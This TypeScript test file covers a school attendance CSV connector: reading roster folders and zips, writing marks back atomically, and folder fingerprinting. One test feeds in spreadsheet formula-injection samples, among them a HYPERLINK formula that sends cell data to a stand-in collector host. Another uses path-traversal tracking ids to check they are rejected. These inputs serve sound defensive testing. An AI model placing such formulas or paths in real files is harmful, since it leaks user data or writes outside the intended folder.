// Covers the csv connector on a real disk: a folder of CSV files, a zip in a folder, folders that cannot be read, marks
// files that are whole and written once, and the fingerprint by which a watcher notices a change.
import assert from 'node:assert/strict';
import { createWriteStream, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pipeline } from 'node:stream/promises';
import { after, test } from 'node:test';
import { noRoster } from '../../../../test/no-roster.ts';
import yazl from 'yazl';
import { MisError, type Connector, type MarksToWrite } from '../../connector.ts';
import type { MarkRow } from '../../mark.ts';
import { Problems, SourceError } from '../../problem.ts';
import { createCsvConnector } from './csv-connector.ts';
import { fingerprintFolder } from './fingerprint.ts';

const root = mkdtempSync(join(tmpdir(), 'schoolbell-csv-connector-'));
after(() => rmSync(root, { recursive: true, force: true }));

const manifest = 'propertyName,value\nmanifest.version,1.0\noneroster.version,1.1\nfile.orgs,bulk\n';
const orgs = 'sourcedId,status,dateLastModified,name,type,identifier,parentSourcedId\no1,,,School,school,,\n';
const attendance = 'studentSourcedId,date,session,mark,minutesLate,notes\ns1,2026-11-13,AM,/,,\ns1,2026-11-13,PM,?,,\ns2,2026-11-13,noon,/,,\n';

const newFolder = (files: Record<string, string> = {}): string => {
  const folder = mkdtempSync(join(root, 'school-'));
  for (const [name, content] of Object.entries(files)) writeFileSync(join(folder, name), content);
  return folder;
};
const connect = (folder: string | undefined, hasAttendance = false): Connector =>
  createCsvConnector({ folder, writebackFolder: join(folder ?? newFolder(), 'writeback'), hasAttendance });

async function zipInto(folder: string, name: string, files: Record<string, string>): Promise<void> {
  const zip = new yazl.ZipFile();
  for (const [entry, content] of Object.entries(files)) zip.addBuffer(Buffer.from(content), entry);
  zip.end();
  await pipeline(zip.outputStream, createWriteStream(join(folder, name)));
}

async function orgIds(connector: Connector): Promise<string[]> {
  const source = await connector.openRoster({ full: true });
  try {
    const ids: string[] = [];
    for (const { read } of source.collections) for await (const { rows } of read(new Problems(), noRoster)) ids.push(...rows.map(({ sourcedId }) => sourcedId));
    return ids;
  } finally {
    await source.close();
  }
}

async function marksOf(connector: Connector): Promise<{ students: string[]; problems: Problems }> {
  const problems = new Problems();
  const students: string[] = [];
  for await (const batch of connector.readMarks?.(problems) ?? assert.fail()) students.push(...batch.map(({ studentId }) => studentId));
  return { students, problems };
}

async function misErrorOf(work: Promise<unknown>): Promise<MisError> {
  const error = await work.then(() => undefined, (thrown: unknown) => thrown);
  assert.ok(error instanceof MisError, `expected a MisError, got ${String(error)}`);
  assert.ok(!error.message.includes(root), 'the path stays with the operator');
  return error;
}

test('a folder is read: roster, marks and what is wrong with them', async () => {
  const connector = connect(newFolder({ 'manifest.csv': manifest, 'orgs.csv': orgs, 'attendance.csv': attendance }));
  assert.deepEqual(connector.offers, ['SchoolData', 'Attendance']);
  assert.deepEqual(await orgIds(connector), ['o1']);
  const { students, problems } = await marksOf(connector);
  assert.deepEqual(students, ['s1', 's1']);
  assert.deepEqual(problems.listed.map(({ file, line, column, value }) => [file, line, column, value]), [['attendance.csv', 4, 'session', 'noon']]);
});

test('attendance is offered where the folder, or the last package, has it', () => {
  const without = newFolder({ 'manifest.csv': manifest, 'orgs.csv': orgs });
  assert.deepEqual(connect(without).offers, ['SchoolData']);
  assert.deepEqual(connect(without, true).offers, ['SchoolData', 'Attendance']);
  assert.deepEqual(connect(undefined).offers, ['SchoolData']);
  assert.deepEqual(connect(undefined, true).offers, ['SchoolData', 'Attendance']);
});

test('one zip in a folder is read, with marks in it or beside it', async () => {
  const folder = newFolder({ 'readme.txt': 'x' });
  await zipInto(folder, 'export.zip', { 'manifest.csv': manifest, 'orgs.csv': orgs, 'attendance.csv': attendance });
  const connector = connect(folder);
  assert.deepEqual(connector.offers, ['SchoolData']);
  assert.deepEqual(await orgIds(connector), ['o1']);
  assert.deepEqual(connector.offers, ['SchoolData', 'Attendance'], 'after the zip was opened');
  assert.deepEqual((await marksOf(connect(folder, true))).students, ['s1', 's1']);

  const beside = newFolder({ 'attendance.csv': attendance.replaceAll('s1', 's9') });
  await zipInto(beside, 'export.zip', { 'manifest.csv': manifest, 'orgs.csv': orgs });
  assert.deepEqual(connect(beside).offers, ['SchoolData', 'Attendance']);
  assert.deepEqual([await orgIds(connect(beside)), (await marksOf(connect(beside))).students], [['o1'], ['s9', 's9']]);
});

test('files with a manifest go before a zip that lies beside them', async () => {
  const folder = newFolder({ 'manifest.csv': manifest, 'orgs.csv': orgs.replace('o1', 'o2') });
  await zipInto(folder, 'old.zip', { 'manifest.csv': manifest, 'orgs.csv': orgs });
  assert.deepEqual(await orgIds(connect(folder)), ['o2']);
});

test('a folder that says nothing clear is an error in plain words', async () => {
  assert.match((await misErrorOf(orgIds(connect(newFolder())))).message, /no package in this school's folder/);
  const two = newFolder();
  for (const name of ['a.zip', 'b.zip']) await zipInto(two, name, { 'manifest.csv': manifest });
  assert.match((await misErrorOf(orgIds(connect(two)))).message, /2 zip files/);
  assert.match((await misErrorOf(marksOf(connect(newFolder({ 'manifest.csv': manifest }))))).message, /no attendance.csv/);
  await assert.rejects(orgIds(connect(newFolder({ 'orgs.csv': orgs }))), (error) => error instanceof SourceError && error.problem.file === 'manifest.csv');
  await assert.rejects(
    orgIds(connect(newFolder({ 'export.zip': 'PK' }))),
    (error) => error instanceof SourceError && /is not a whole zip/.test(error.problem.rule),
  );
});

test('a folder that is gone may come back; a file is no folder', async () => {
  const gone = await misErrorOf(orgIds(connect(join(root, 'nowhere'))));
  assert.deepEqual([gone.status, gone.later], ['Error', true]);
  assert.match(gone.message, /not there/);
  assert.match((await misErrorOf(marksOf(connect(join(root, 'nowhere'), true)))).message, /not there/);
  const file = join(newFolder({ 'a.csv': 'x' }), 'a.csv');
  assert.match((await misErrorOf(orgIds(connect(file)))).message, /not a folder/);
});

test('what is uploaded cannot be collected, and trying again does not help', async () => {
  for (const work of [orgIds(connect(undefined)), marksOf(connect(undefined, true))]) {
    const error = await misErrorOf(work);
    assert.equal(error.later, false);
    assert.match(error.message, /uploaded/);
  }
});

const mark = (line: number, more: Partial<MarkRow> = {}): MarkRow => ({
  line, studentId: `s${line}`, date: '2026-11-13', session: 'AM', mark: 'I', minutesLate: undefined, notes: undefined, ...more,
});
const write = (connector: Connector, marks: MarksToWrite) => connector.writeMarks?.(marks) ?? assert.fail();
const trackingId = '0f8fad5b-d9cb-469f-a165-70867728950e';

test('marks become one file for the group to read, and the same write leaves it untouched', async () => {
  const writebackFolder = join(newFolder(), 'deep', 'writeback');
  const connector = createCsvConnector({ folder: undefined, writebackFolder, hasAttendance: true });
  const marks = [
    mark(0, { mark: 'L', minutesLate: 12, notes: 'Bus, "again"\nand again' }),
    mark(1, { mark: undefined }),
    mark(2, { session: 'PM', mark: '\\' }),
  ];
  const path = join(writebackFolder, `${trackingId}.csv`);
  assert.deepEqual(await write(connector, { trackingId, partial: false, marks }), []);
  const expected =
    'studentSourcedId,date,session,mark,minutesLate,notes\r\n' +
    's0,2026-11-13,AM,L,12,"Bus, ""again""\nand again"\r\ns1,2026-11-13,AM,,,\r\ns2,2026-11-13,PM,\\,,\r\n';
  assert.equal(readFileSync(path, 'utf8'), expected);
  assert.equal(statSync(path).mode & 0o777, 0o640);

  const before = statSync(path, { bigint: true });
  assert.deepEqual(await write(connector, { trackingId, partial: true, marks }), []);
  assert.deepEqual([statSync(path, { bigint: true }).mtimeNs, statSync(path, { bigint: true }).ino], [before.mtimeNs, before.ino]);

  writeFileSync(path, expected.slice(0, 20));
  await write(connector, { trackingId, partial: false, marks });
  assert.equal(readFileSync(path, 'utf8'), expected);
  assert.deepEqual(readdirSync(writebackFolder), [`${trackingId}.csv`]);
});

const notesOf = [
  '=HYPERLINK("https://collector.example/"&A1)', '+44 20 7946 0000', '-1', '@SUM(A1)', '|calc', '%0', '\t=1', "'=1", "''", "'tis late", 'Bus',
  " '=1", " ''tis", "  '-x", ' Bus ', 'Bus \n', '\n=1', "' ", '😀'.repeat(500),
];

test('no note is a formula to a spreadsheet, and each comes back as it was', async () => {
  const writebackFolder = newFolder();
  const connector = createCsvConnector({ folder: undefined, writebackFolder, hasAttendance: true });
  const marks = notesOf.map((notes, line) => mark(line, { mark: line === 0 ? '\\' : '-', notes }));
  await write(connector, { trackingId, partial: false, marks });
  const text = readFileSync(join(writebackFolder, `${trackingId}.csv`), 'utf8');
  const cells = text.trim().split('\r\n').slice(1).map((line) => /^[^,]*,[^,]*,AM,(.*?),,(.*)$/s.exec(line)?.slice(1) ?? []);
  for (const [code, cell = ''] of cells) {
    assert.match(cell, /^"?(?:'|[\p{L} 😀])/u, cell);
    assert.match(code ?? '', /^[\\-]$/, 'a mark is written as it is');
  }
  const read: (string | undefined)[] = [];
  const source = connect(newFolder({ 'manifest.csv': manifest, 'orgs.csv': orgs, 'attendance.csv': text }));
  for await (const batch of source.readMarks?.(new Problems()) ?? assert.fail()) read.push(...batch.map(({ notes }) => notes));
  assert.deepEqual(read, notesOf);
});

test('a marks file is never seen half written, also when several write it at once', async () => {
  const writebackFolder = newFolder();
  const connector = createCsvConnector({ folder: undefined, writebackFolder, hasAttendance: true });
  const marks = Array.from({ length: 5000 }, (_, line) => mark(line, { notes: 'n'.repeat(300) }));
  const sizes = new Set<number>();
  const written = new AbortController();
  const watching = (async () => {
    while (!written.signal.aborted) {
      for (const name of readdirSync(writebackFolder)) if (name.endsWith('.csv')) sizes.add(statSync(join(writebackFolder, name)).size);
      await new Promise((resolve) => setImmediate(resolve));
    }
  })();
  await Promise.all(Array.from({ length: 5 }, () => write(connector, { trackingId, partial: false, marks })));
  written.abort();
  await watching;
  assert.deepEqual(readdirSync(writebackFolder), [`${trackingId}.csv`]);
  assert.deepEqual([...sizes, statSync(join(writebackFolder, `${trackingId}.csv`)).size].filter((size) => size < 1_000_000), []);
});

test('a disk that will not take the marks may do so later, and nothing is left behind', async () => {
  const folder = newFolder({ blocked: 'a file' });
  const onFile = createCsvConnector({ folder: undefined, writebackFolder: join(folder, 'blocked', 'writeback'), hasAttendance: true });
  const error = await misErrorOf(write(onFile, { trackingId, partial: false, marks: [mark(0)] }));
  assert.equal(error.later, true);
  assert.match(error.message, /could not be put/);

  mkdirSync(join(folder, `${trackingId}.csv`));
  const onFolder = createCsvConnector({ folder: undefined, writebackFolder: folder, hasAttendance: true });
  assert.equal((await misErrorOf(write(onFolder, { trackingId, partial: false, marks: [mark(0)] }))).later, true);
  assert.deepEqual(readdirSync(folder).sort(), [`${trackingId}.csv`, 'blocked']);
});

test('a tracking id that would name another place is not written', async () => {
  const folder = newFolder();
  const connector = connect(folder);
  for (const bad of ['../escape', 'a/b', '', '.', 'x'.repeat(65)])
    await assert.rejects(async () => write(connector, { trackingId: bad, partial: false, marks: [] }), /cannot name a file/);
  assert.ok(!existsSync(join(folder, 'escape.csv')));
});

test('the fingerprint changes with the files of a package and with nothing else', async () => {
  const folder = newFolder({ 'manifest.csv': manifest, 'orgs.csv': orgs });
  let last = await fingerprintFolder(folder);
  assert.match(last ?? '', /^[0-9a-f]{64}$/);
  const expect = async (change: 'same' | 'other', what: string) => {
    const now = await fingerprintFolder(folder);
    assert[change === 'same' ? 'equal' : 'notEqual'](now, last, what);
    last = now;
  };
  await expect('same', 'nothing');
  await write(connect(folder), { trackingId, partial: false, marks: [mark(0)] });
  await expect('same', 'a marks file');
  writeFileSync(join(folder, 'notes.txt'), 'x');
  writeFileSync(join(folder, 'orgs.csv.part'), 'x');
  mkdirSync(join(folder, 'old.csv'));
  await expect('same', 'other files and folders');
  writeFileSync(join(folder, 'attendance.csv'), attendance);
  await expect('other', 'a new file');
  const { mtime, atime } = statSync(join(folder, 'orgs.csv'));
  writeFileSync(join(folder, 'orgs.csv'), `${orgs}o2,,,School,school,,\n`);
  utimesSync(join(folder, 'orgs.csv'), atime, mtime);
  await expect('other', 'another size');
  utimesSync(join(folder, 'orgs.csv'), atime, new Date(mtime.getTime() + 1));
  await expect('other', 'another time');
  await zipInto(folder, 'export.zip', { 'manifest.csv': manifest });
  await expect('other', 'a zip');
  rmSync(join(folder, 'attendance.csv'));
  await expect('other', 'a file less');
  assert.equal(await fingerprintFolder(join(folder, 'nowhere')), undefined);
  assert.equal(await fingerprintFolder(join(folder, 'orgs.csv')), undefined);
});
